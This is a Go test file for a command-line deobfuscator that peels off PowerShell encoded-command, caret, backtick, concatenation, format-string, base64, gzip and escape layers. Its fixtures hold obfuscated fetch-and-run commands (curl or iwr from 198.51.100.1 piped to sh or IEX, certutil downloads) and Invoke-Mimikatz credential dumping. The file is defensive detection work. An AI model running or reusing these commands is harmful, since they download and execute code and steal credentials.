package cmdline

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

func utf16Base64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 0, 2*len(u))
	for _, x := range u {
		b = append(b, byte(x), byte(x>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// layerWith reports whether some layer produced by technique (a substring of
// Layer.Technique) has exactly text.
func layerWith(layers []Layer, technique, text string) bool {
	for _, l := range layers {
		if strings.Contains(l.Technique, technique) && l.Text == text {
			return true
		}
	}
	return false
}

func TestDeobfuscateEncodedCommandSpellings(t *testing.T) {
	script := "Write-Output 'hi'; Get-Process"
	enc := utf16Base64(script)
	for _, param := range []string{
		"-EncodedCommand", "-encodedcommand", "-enc", "-e", "-ec", "-en", "-encod", "-ENCODEDC",
		"/enc", "/e", "\u2013enc", "\u2014ec", "\u2015e", `"-enc"`,
	} {
		cmd := "powershell.exe -nop " + param + " " + enc
		if got := Deobfuscate(cmd, DeobfuscateOptions{}); !layerWith(got, TechEncodedCommand, script) {
			t.Errorf("%s: no decoded layer in %+v", param, got)
		}
	}
	for _, param := range []string{"-ex", "-encodedarguments", "-f", "-ep", "e"} {
		cmd := "powershell.exe " + param + " " + enc
		if got := Deobfuscate(cmd, DeobfuscateOptions{}); layerWith(got, TechEncodedCommand, script) {
			t.Errorf("%s decoded as an encoded command", param)
		}
	}
	// quoted argument and missing padding
	cmd := `powershell -enc "` + strings.TrimRight(enc, "=") + `"`
	if got := Deobfuscate(cmd, DeobfuscateOptions{}); !layerWith(got, TechEncodedCommand, script) {
		t.Errorf("quoted, unpadded argument not decoded: %+v", got)
	}
	// base64 of binary data is not a layer
	bin := base64.StdEncoding.EncodeToString([]byte{0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 'I', 'H', 'D', 'R', 0xde, 0xad})
	if got := Deobfuscate("powershell -enc "+bin, DeobfuscateOptions{}); len(got) != 1 {
		t.Errorf("binary argument produced layers: %+v", got)
	}
}

func TestDeobfuscateCleanup(t *testing.T) {
	cases := []struct{ in, tech, want string }{
		{`p^o^w^e^r^s^h^e^l^l -c whoami`, TechCaret, `powershell -c whoami`},
		{`cmd /c "c^e^r^t^u^t^i^l -urlcache"`, TechCaret, `cmd /c "certutil -urlcache"`},
		{"powershell I`E`X (N`ew-Object x)", TechBacktick, "powershell IEX (New-Object x)"},
		{`c"e"r"t"u"t"i"l -f`, TechQuoteSplit, `certutil -f`},
		{`p""owershell -c x`, TechQuoteSplit, `powershell -c x`},
		{`c'u'rl http://x`, TechQuoteSplit, `curl http://x`},
		{`powershell ('Down'+'load'+"String")`, TechConcat, `powershell ('DownloadString')`},
		{`powershell ([char]73+[char]69+[char]88)`, TechCharCodes, `powershell ('IEX')`},
		{`powershell [char]0x49`, TechCharCodes, `powershell 'I'`},
		{`powershell [char[]](105,101,120) -join ''`, TechCharCodes, `powershell 'iex' -join ''`},
		{`powershell ("{2}{0}{1}" -f 'ke-Ex','pression','Invo')`, TechFormat, `powershell 'Invoke-Expression'`},
		{`powershell (("{1}{0}" -f 'ject',("{0}{1}" -f 'Ne','w-Ob')))`, TechFormat, `powershell ('New-Object')`},
	}
	for _, c := range cases {
		got := Deobfuscate(c.in, DeobfuscateOptions{})
		if !layerWith(got, c.tech, c.want) {
			t.Errorf("%q: expected a %s layer %q, got %+v", c.in, c.tech, c.want, got)
		}
	}
	// carets outside words are left alone off Windows
	if got := Deobfuscate(`grep ^root /etc/passwd`, DeobfuscateOptions{OS: OSLinux}); len(got) != 1 {
		t.Errorf("grep ^root produced layers: %+v", got)
	}
	// an empty argument ("") is not quote splitting
	if got := Deobfuscate(`cmd /c start "" notepad.exe`, DeobfuscateOptions{}); len(got) != 1 {
		t.Errorf(`start "" produced layers: %+v`, got)
	}
	// a format string that refers past its arguments is left alone
	if got := Deobfuscate(`powershell ("{0}{3}" -f 'a','b')`, DeobfuscateOptions{}); len(got) != 1 {
		t.Errorf("bad format reference produced layers: %+v", got)
	}
}

func TestDeobfuscateBase64(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	// FromBase64String literal, UTF-8 and UTF-16LE
	got := Deobfuscate(`powershell -c "[Convert]::FromBase64String('`+b64("Invoke-Mimikatz")+`')"`, DeobfuscateOptions{})
	if !layerWith(got, TechBase64Literal, "Invoke-Mimikatz") {
		t.Errorf("UTF-8 literal: %+v", got)
	}
	got = Deobfuscate(`powershell -c "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('`+utf16Base64("whoami /all")+`'))"`, DeobfuscateOptions{})
	if !layerWith(got, TechBase64Literal, "whoami /all") {
		t.Errorf("UTF-16 literal: %+v", got)
	}
	// gzip and deflate payloads
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("IEX (iwr http://198.51.100.1/a)"))
	zw.Close()
	got = Deobfuscate(`powershell -c "IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('`+base64.StdEncoding.EncodeToString(gz.Bytes())+`'),0))).ReadToEnd()"`, DeobfuscateOptions{})
	if !layerWith(got, TechBase64Literal, "IEX (iwr http://198.51.100.1/a)") {
		t.Errorf("gzip literal: %+v", got)
	}
	var df bytes.Buffer
	fw, _ := flate.NewWriter(&df, flate.BestCompression)
	fw.Write([]byte("Start-Process calc"))
	fw.Close()
	got = Deobfuscate(`powershell -c "New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('`+base64.StdEncoding.EncodeToString(df.Bytes())+`'),0)"`, DeobfuscateOptions{})
	if !layerWith(got, TechBase64Literal, "Start-Process calc") {
		t.Errorf("deflate literal: %+v", got)
	}
	// shell pipelines
	for _, cmd := range []string{
		"echo " + b64("curl http://198.51.100.1/x | sh") + " | base64 -d | bash",
		"echo " + b64("curl http://198.51.100.1/x | sh") + " | base64 --decode | sh",
		`python3 -c "import base64;exec(base64.b64decode('` + b64("curl http://198.51.100.1/x | sh") + `'))"`,
	} {
		if got := Deobfuscate(cmd, DeobfuscateOptions{}); !layerWith(got, TechBase64Pipeline, "curl http://198.51.100.1/x | sh") {
			t.Errorf("%q: %+v", cmd, got)
		}
	}
	// base64 without a decoding context is not decoded
	if got := Deobfuscate("echo "+b64("curl http://198.51.100.1/x | sh"), DeobfuscateOptions{}); len(got) != 1 {
		t.Errorf("plain echo decoded: %+v", got)
	}
}

func TestDeobfuscateEscapesAndNesting(t *testing.T) {
	got := Deobfuscate(`certutil -urlcache -f http%3A%2F%2F198.51.100.1%2Fa.exe a.exe`, DeobfuscateOptions{})
	if !layerWith(got, TechURLDecode, "certutil -urlcache -f http://198.51.100.1/a.exe a.exe") {
		t.Errorf("url decoding: %+v", got)
	}
	got = Deobfuscate(`bash -c $'\x63\x75\x72\x6c http://x'`, DeobfuscateOptions{})
	if !layerWith(got, TechHexEscape, `bash -c $'curl http://x'`) {
		t.Errorf("hex escapes: %+v", got)
	}
	// %TEMP% and a lone %20-free percent are not URL escapes
	if got := Deobfuscate(`copy a.exe %TEMP%\a.exe`, DeobfuscateOptions{}); len(got) != 1 {
		t.Errorf("environment variable decoded: %+v", got)
	}
	// three nested layers: carets hide an encoded command whose script
	// decodes a base64 literal
	inner := "[Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString([]byte("Invoke-Mimikatz -DumpCreds")) + "')"
	cmd := "p^o^w^e^r^s^h^e^l^l -e^n^c " + utf16Base64(inner)
	got = Deobfuscate(cmd, DeobfuscateOptions{OS: OSWindows})
	if !layerWith(got, TechBase64Literal, "Invoke-Mimikatz -DumpCreds") {
		t.Fatalf("nested layers: %+v", got)
	}
	last := got[len(got)-1]
	if last.Depth != 3 || got[last.From].Technique != TechEncodedCommand {
		t.Errorf("layer chain: %+v", got)
	}
	// bounds: depth and layer count
	if got := Deobfuscate(cmd, DeobfuscateOptions{OS: OSWindows, MaxDepth: 1}); len(got) != 2 {
		t.Errorf("MaxDepth 1: %+v", got)
	}
	if got := Deobfuscate(cmd, DeobfuscateOptions{OS: OSWindows, MaxLayers: 2}); len(got) != 2 {
		t.Errorf("MaxLayers 2: %+v", got)
	}
	// base64 nested 8 times stops at the depth bound
	s := "whoami"
	for range 8 {
		s = "powershell -enc " + utf16Base64(s)
	}
	if got := Deobfuscate(s, DeobfuscateOptions{}); len(got) != 5 {
		t.Errorf("deep nesting gave %d layers, expected the original and 4", len(got))
	}
}

func TestDeobfuscateBounds(t *testing.T) {
	huge := strings.Repeat("^a", 1<<20)
	got := Deobfuscate(huge, DeobfuscateOptions{OS: OSWindows})
	if len(got[0].Text) > 64<<10 {
		t.Errorf("input not truncated: %d bytes", len(got[0].Text))
	}
	for _, in := range []string{"", "\xff\xfe\xfd", "-e", "powershell -e", "[char]", "('a'+", `("{0}" -f`, "%", "%zz", strings.Repeat("'a'+", 5000) + "'b'"} {
		got := Deobfuscate(in, DeobfuscateOptions{})
		if len(got) == 0 || got[0].Technique != TechOriginal || got[0].Text != in {
			t.Errorf("%q: %+v", in, got)
		}
	}
}
